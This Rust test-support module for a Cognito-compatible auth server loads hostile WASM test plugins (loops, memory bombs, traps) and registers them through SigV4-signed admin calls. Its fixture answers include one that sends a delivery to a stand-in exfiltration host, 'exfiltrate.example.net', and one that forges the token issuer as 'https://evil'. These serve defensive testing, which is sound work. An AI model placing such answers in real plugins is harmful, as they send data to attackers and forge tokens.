//! Trigger plugins in the scenarios: where the example modules are, and registering them with
//! the server (`CognatePlugins.RegisterPlugin`, SigV4-signed with the admin key).
//!
//! The example `.wasm` files are built by `scripts/test.sh` into
//! `<target>/wasm32-unknown-unknown/plugin/` (`COGNATE_PLUGINS_DIR` overrides); the hostile
//! test plugins are WAT, compiled into this crate.

use std::path::PathBuf;
use std::time::{SystemTime, UNIX_EPOCH};

use base64ct::{Base64, Encoding as _};
use hmac::{KeyInit as _, Mac as _};
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};

use crate::{RawResponse, Target};

/// The hostile test plugins (WAT).
pub const HOSTILE_LOOP: &str = include_str!("../../plugins/hostile/loop.wat");
pub const HOSTILE_MEMORY_BOMB: &str = include_str!("../../plugins/hostile/memory_bomb.wat");
pub const HOSTILE_TRAP: &str = include_str!("../../plugins/hostile/trap.wat");
pub const HOSTILE_GARBAGE: &str = include_str!("../../plugins/hostile/garbage.wat");
pub const HOSTILE_HUGE_OUTPUT: &str = include_str!("../../plugins/hostile/huge_output.wat");
pub const HOSTILE_MISSING_EXPORT: &str = include_str!("../../plugins/hostile/missing_export.wat");
/// The README's minimal plugin (WAT): a pre sign-up that confirms everyone.
pub const MINIMAL: &str = include_str!("../../plugins/examples/minimal.wat");

/// Fixed answers the scenarios register as [`constant_plugin`]s.
pub const ANSWER_BLOCK_SIGN_IN: &str = r#"{"error":"Sign-in is paused"}"#;
pub const ANSWER_PRE_TOKEN_V1: &str = r#"{"claimsOverrideDetails":{"claimsToAddOrOverride":{"plan":"v1-plan","iss":"https://evil"},"claimsToSuppress":["email"],"groupOverrideDetails":{"groupsToOverride":["v1-group"]}}}"#;
pub const ANSWER_EVIL_SENDER: &str = r#"{"delivery":{"method":"POST","url":"https://exfiltrate.example.net/c","headers":{},"body":"x"}}"#;
pub const ANSWER_EMPTY: &str = "{}";

/// Every WAT module the scenarios register, under the names they use: the edge cannot compile
/// at run time, so scripts/test-edge.sh bundles these (`write-test-plugins`) with the Worker.
pub fn wat_modules() -> Vec<(&'static str, String)> {
    vec![
        ("readme-minimal", MINIMAL.to_owned()),
        ("hostile-loop", HOSTILE_LOOP.to_owned()),
        ("hostile-memory-bomb", HOSTILE_MEMORY_BOMB.to_owned()),
        ("hostile-trap", HOSTILE_TRAP.to_owned()),
        ("hostile-garbage", HOSTILE_GARBAGE.to_owned()),
        ("hostile-huge-output", HOSTILE_HUGE_OUTPUT.to_owned()),
        ("hostile-missing-export", HOSTILE_MISSING_EXPORT.to_owned()),
        ("const-block-sign-in", constant_plugin(ANSWER_BLOCK_SIGN_IN)),
        ("const-pre-token-v1", constant_plugin(ANSWER_PRE_TOKEN_V1)),
        ("const-evil-sender", constant_plugin(ANSWER_EVIL_SENDER)),
        ("const-empty", constant_plugin(ANSWER_EMPTY)),
    ]
}

/// A plugin (WAT) that answers `answer` to every event: a fixed response, or `{"error": ...}`.
pub fn constant_plugin(answer: &str) -> String {
    let mut data = String::new();
    for byte in answer.bytes() {
        if byte.is_ascii_graphic() && byte != b'"' && byte != b'\\' || byte == b' ' {
            data.push(byte as char);
        } else {
            data.push_str(&format!("\\{byte:02x}"));
        }
    }
    format!(
        r#"(module
  (memory (export "memory") 1)
  (data (i32.const 0) "{data}")
  (global $next (mut i32) (i32.const 8192))
  (func (export "alloc") (param $len i32) (result i32)
    (local $ptr i32)
    (local.set $ptr (global.get $next))
    (global.set $next (i32.add (global.get $next) (local.get $len)))
    (if (i32.gt_u (global.get $next) (i32.mul (memory.size) (i32.const 65536)))
      (then (drop (memory.grow (i32.add (i32.div_u (local.get $len) (i32.const 65536)) (i32.const 1))))))
    (local.get $ptr))
  (func (export "handle") (param i32 i32) (result i64)
    (i64.const {len})))"#,
        len = answer.len()
    )
}

/// Where the example plugins were built.
pub fn plugins_dir() -> PathBuf {
    if let Some(dir) = std::env::var_os("COGNATE_PLUGINS_DIR") {
        return PathBuf::from(dir);
    }
    // <target>/<profile>/deps/<test exe> -> <target>/wasm32-unknown-unknown/plugin
    let exe = std::env::current_exe().expect("current_exe");
    let target = exe
        .parent()
        .and_then(|p| p.parent())
        .and_then(|p| p.parent())
        .expect("test executable inside a target directory");
    target.join("wasm32-unknown-unknown").join("plugin")
}

/// An example plugin's module: `example` is its directory under `plugins/examples/`.
pub fn example_wasm(example: &str) -> Vec<u8> {
    let file = format!("cognate_example_{}.wasm", example.replace('-', "_"));
    let path = plugins_dir().join(&file);
    std::fs::read(&path).unwrap_or_else(|e| {
        panic!(
            "example plugin {} is missing ({e}): build it with `cargo build --profile plugin \
             --target wasm32-unknown-unknown -p cognate-example-{example}` (scripts/test.sh does)",
            path.display()
        )
    })
}

impl Target {
    /// Registers `module` (Wasm or WAT) under `name`; the answer's JSON (`Names`, `Sha256`,
    /// `Reference`, `Size`), or the refusal.
    pub async fn register_plugin(&self, name: &str, module: &[u8]) -> Result<Value, RawResponse> {
        let body = json!({"Name": name, "Wasm": Base64::encode_string(module)});
        let response = self.plugin_admin("RegisterPlugin", &body).await;
        if response.status == 200 {
            Ok(response.json().unwrap_or(Value::Null))
        } else {
            Err(response)
        }
    }

    /// Registers an example plugin under its directory name; panics on refusal.
    pub async fn register_example(&self, example: &str) -> String {
        self.register_plugin(example, &example_wasm(example))
            .await
            .unwrap_or_else(|r| panic!("RegisterPlugin {example}: {r}"));
        example.to_owned()
    }

    /// A signed `CognatePlugins.<operation>` call.
    pub async fn plugin_admin(&self, operation: &str, body: &Value) -> RawResponse {
        let target = format!("CognatePlugins.{operation}");
        let body = body.to_string().into_bytes();
        let host = self
            .base_url()
            .trim_start_matches("http://")
            .trim_start_matches("https://")
            .split('/')
            .next()
            .unwrap_or_default()
            .to_owned();
        let now = SystemTime::now()
            .duration_since(UNIX_EPOCH)
            .map(|d| d.as_secs())
            .unwrap_or(0);
        let amz_date = amz_date(now);
        let authorization = sigv4_authorization(
            &self.admin_keys().access_key_id,
            &self.admin_keys().secret_access_key,
            crate::REGION,
            &host,
            &amz_date,
            &target,
            &body,
        );
        self.post_raw(
            &[
                ("content-type", "application/x-amz-json-1.1"),
                ("x-amz-target", &target),
                ("x-amz-date", &amz_date),
                ("authorization", &authorization),
            ],
            body,
        )
        .await
    }
}

/// `YYYYMMDDTHHMMSSZ` for Unix seconds.
fn amz_date(secs: u64) -> String {
    let days = (secs / 86_400) as i64;
    let rem = secs % 86_400;
    // Howard Hinnant's civil-from-days.
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    format!(
        "{year:04}{month:02}{day:02}T{:02}{:02}{:02}Z",
        rem / 3600,
        (rem / 60) % 60,
        rem % 60
    )
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn hmac(key: &[u8], data: &[u8]) -> Vec<u8> {
    let mut mac = hmac::Hmac::<Sha256>::new_from_slice(key).expect("HMAC key");
    mac.update(data);
    mac.finalize().into_bytes().to_vec()
}

/// The SigV4 `Authorization` header for `POST /` with content-type, host, x-amz-date and
/// x-amz-target signed (service `cognito-idp`).
fn sigv4_authorization(
    access_key_id: &str,
    secret: &str,
    region: &str,
    host: &str,
    amz_date: &str,
    target: &str,
    body: &[u8],
) -> String {
    let service = "cognito-idp";
    let date = &amz_date[..8];
    let signed = "content-type;host;x-amz-date;x-amz-target";
    let canonical = format!(
        "POST\n/\n\ncontent-type:application/x-amz-json-1.1\nhost:{host}\nx-amz-date:{amz_date}\nx-amz-target:{target}\n\n{signed}\n{}",
        hex(&Sha256::digest(body))
    );
    let scope = format!("{date}/{region}/{service}/aws4_request");
    let to_sign = format!(
        "AWS4-HMAC-SHA256\n{amz_date}\n{scope}\n{}",
        hex(&Sha256::digest(canonical.as_bytes()))
    );
    let mut key = hmac(format!("AWS4{secret}").as_bytes(), date.as_bytes());
    for part in [region, service, "aws4_request"] {
        key = hmac(&key, part.as_bytes());
    }
    let signature = hex(&hmac(&key, to_sign.as_bytes()));
    format!(
        "AWS4-HMAC-SHA256 Credential={access_key_id}/{scope}, SignedHeaders={signed}, Signature={signature}"
    )
}

#[cfg(test)]
mod tests {
    #[test]
    fn amz_date_formats_utc() {
        assert_eq!(super::amz_date(0), "19700101T000000Z");
        assert_eq!(super::amz_date(1_767_225_600), "20260101T000000Z");
        assert_eq!(super::amz_date(951_782_400 + 3661), "20000229T010101Z");
    }
}
